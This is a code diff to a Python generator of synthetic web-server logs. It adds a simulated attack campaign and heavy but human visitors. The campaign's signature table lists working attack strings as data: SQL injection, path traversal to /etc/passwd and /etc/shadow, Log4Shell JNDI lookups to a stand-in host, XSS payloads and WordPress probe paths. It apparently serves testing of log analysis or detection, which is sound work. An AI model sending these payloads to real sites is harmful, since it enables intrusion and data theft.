@@ -4,9 +4,10 @@ from typing import NamedTuple
 
 from sample_logs import people, site
 from sample_logs.clock import local
-from sample_logs.people import ROBOT, Crowd, Visitor
+from sample_logs.people import EMPTY, PROBE, Crowd, Visitor
 from sample_logs.site import PORTAL, PREP, Resource
 from sample_logs.stage import PREP_SERVER, WWW, Event, Stage
+from sample_logs.visits import open_portal_page, portal_url
 
 BLANK, REJECT = "blank", "reject"
 
@@ -58,8 +59,9 @@ TLS_HELLO = r"\x16\x03\x01\x02"  # Apache writes the bytes of a TLS greeting lik
 def odd_requests(stage: Stage, crowd: Crowd) -> None:
     for number, attack in enumerate(ATTACKS):
         attack_once(
-            stage, Visitor(f"203.0.113.{230 + number}", attack.agent, "HTTP/1.1", ROBOT), attack
+            stage, Visitor(f"203.0.113.{230 + number}", attack.agent, "HTTP/1.1", PROBE), attack
         )
+    campaign(stage)
     wordless_requests(stage)
     odd_persons(stage, crowd)
 
@@ -73,6 +75,65 @@ def attack_once(stage: Stage, attacker: Visitor, attack: Attack) -> None:
         attacker, at, what, server=attack.server, referer=attack.referer, status=attack.status
     )
 
+
+# ── a campaign ───────────────────────────────────────────────────────────────────────────────
+
+CAMPAIGN_START = local("2023-06-05 01:20:05")
+WP_PATHS = (
+    "/wp-login.php",
+    "/wp-admin/setup-config.php",
+    "/wp-config.php.bak",
+    "/xmlrpc.php",
+    "/wp-includes/wlwmanifest.xml",
+    "/wp-content/plugins/revslider/temp/update.php",
+)
+# fmt: off
+# Signature → what its requests ask for, and what the server answers.
+SIGNATURES: dict[str, tuple[int, tuple[str, ...]]] = {
+    "sqli": (403, (
+        "/buscar?q=1%27%20UNION%20SELECT%20NULL,NULL--%20-",
+        "/buscar/1'+UNION+ALL+SELECT+user(),2,3--+",
+        "/local/nota-%27%20OR%20%271%27=%271",
+        "/hemeroteca.php?id=1;SELECT+SLEEP(5)--",
+    )),
+    "path_traversal": (403, (
+        "/static/../../../../etc/passwd",
+        "/media/..%2f..%2f..%2f..%2fetc%2fshadow",
+        "/static/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
+    )),
+    "log4shell": (403, (
+        "/${jndi:ldap://x.example/a}",
+        "/buscar?q=${jndi:${lower:l}${lower:d}ap://x.example/b}",
+        "/$%7Bjndi:dns://x.example/c%7D",
+    )),
+    "xss": (403, (
+        "/buscar?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/contacto/<script>alert(document.cookie)</script>",
+        "/local/%22%3E%3Csvg/onload=alert(1)%3E",
+    )),
+    "wp_probe": (404, WP_PATHS),
+}
+CAMPAIGN = ("sqli", "path_traversal", "xss", "sqli", "wp_probe", "log4shell")
+# fmt: on
+CAMPAIGN_LENGTH = 200
+
+
+def campaign(stage: Stage) -> None:
+    """Two machines try what scanners try, from the first probe to the two hundredth."""
+    rng, at = stage.rng, float(CAMPAIGN_START)
+    for intruder in people.INTRUDERS:
+        stage.ask(intruder, at, site.ENV_PROBE, cause=PROBE)
+        at += 1 + rng.random()
+    for number in range(CAMPAIGN_LENGTH - len(people.INTRUDERS)):
+        signature = CAMPAIGN[number % len(CAMPAIGN)]
+        status, targets = SIGNATURES[signature]
+        intruder = people.INTRUDERS[2 if signature == "log4shell" else number // 6 % 2]
+        what = Resource(rng.choice(targets), 0, document=True)
+        stage.ask(intruder, at, what, status=status, cause=signature)
+        at += 0.6 + rng.random() * 2
+
+
+# ── no request at all ────────────────────────────────────────────────────────────────────────
 
 # No request line at all: a client that fell silent (408), and TLS spoken to a plain port.
 WORDLESS = (
@@ -89,7 +150,7 @@ WORDLESS = (
 
 def wordless_requests(stage: Stage) -> None:
     for moment, server, address, request, status, size in WORDLESS:
-        nobody = Visitor(address, "-", "", ROBOT)
+        nobody = Visitor(address, "-", "", EMPTY)
         section = PREP if server == PREP_SERVER else PORTAL
         micros = 20_000_000 if status == 408 else 90
         stage.record(
@@ -140,6 +201,23 @@ def odd_persons(stage: Stage, crowd: Crowd) -> None:
     stage.ask(tablet, local("2023-06-05 08:31:00"), site.HOME, method="HEAD")
     stage.ask(editor, local("2023-06-05 07:02:00"), site.DOOR)
     stage.ask(editor, local("2023-06-05 07:02:09"), site.REDACTION, user="redaccion")
+
+
+# ── persons who might be taken for robots ────────────────────────────────────────────────────
+
+
+def keen_persons(stage: Stage, crowd: Crowd) -> None:
+    """A journalist who reloads all the time, pictures and all; and a screen reader that loads no
+    picture, with never a hundred pages in an hour of the clock but with more in an hour's time."""
+    journalist = crowd.admit("192.0.2.12", people.DESKTOPS[1])
+    start = local("2023-06-04 20:01:00")
+    for number in range(110):
+        page = site.ELECTION_NEWS[number % len(site.ELECTION_NEWS)]
+        open_portal_page(stage, journalist, start + number * 32, page, portal_url(page))
+    listener = crowd.admit("192.0.2.13", people.DESKTOPS[6])
+    start = local("2023-06-05 16:06:00")
+    for number in range(190):
+        stage.ask(listener, start + number * 33.5, site.NEWS[number % len(site.NEWS)])
 
 
 # fmt: off
